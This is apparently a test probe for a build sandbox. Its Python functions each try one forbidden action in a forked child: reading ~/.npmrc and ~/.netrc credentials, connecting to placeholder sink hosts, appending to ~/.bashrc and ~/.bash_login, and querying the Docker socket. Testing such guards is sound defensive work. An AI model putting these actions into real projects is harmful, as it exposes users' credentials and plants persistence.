import contextlib
import os
import socket
import subprocess
import time
from pathlib import Path

HOME = Path.home()
REQUEST = b"GET /@TOKEN@/%s HTTP/1.0\r\n\r\n"
LINE = "# planted-@TOKEN@\n"


def read():
    Path("@MARKS@/read").write_bytes(HOME.joinpath(".npmrc").read_bytes())


def read_other():
    Path("@MARKS@/read_other").write_bytes(HOME.joinpath(".netrc").read_bytes())


def connect():
    with socket.create_connection(("@SINK@", 8080), 3) as sock:
        sock.sendall(REQUEST % b"four")


def connect_six():
    with socket.create_connection(("@SINK6@", 8080), 3) as sock:
        sock.sendall(REQUEST % b"six")


def connect_port():
    with socket.create_connection(("@SINK@", 8443), 3) as sock:
        sock.sendall(REQUEST % b"port")


def append():
    with HOME.joinpath(".bashrc").open("a") as file:
        file.write(LINE)


def create():
    with HOME.joinpath(".bash_login").open("w") as file:
        file.write(LINE)
    time.sleep(0.3)  # a guard that ends authors afterwards must find this one alive
    with HOME.joinpath(".bash_login").open("a") as file:
        file.write(LINE)


def program():
    said = subprocess.run(["setpriv", "--version"], capture_output=True, check=True).stdout
    Path("@MARKS@/program").write_bytes(said)


def broker():
    with socket.socket(socket.AF_UNIX) as sock:
        sock.settimeout(3)
        sock.connect("/run/docker.sock")
        sock.sendall(b"GET /@TOKEN@ HTTP/1.0\r\n\r\n")
        Path("@MARKS@/broker").write_bytes(sock.recv(100))


def act():
    # Each in a child of its own: where the guard can only kill, the build goes on.
    for wish in (read, read_other, connect, connect_six, connect_port, append, create, program, broker):
        if (child := os.fork()) == 0:
            with contextlib.suppress(OSError, subprocess.SubprocessError):
                wish()
            os._exit(0)
        os.waitpid(child, 0)
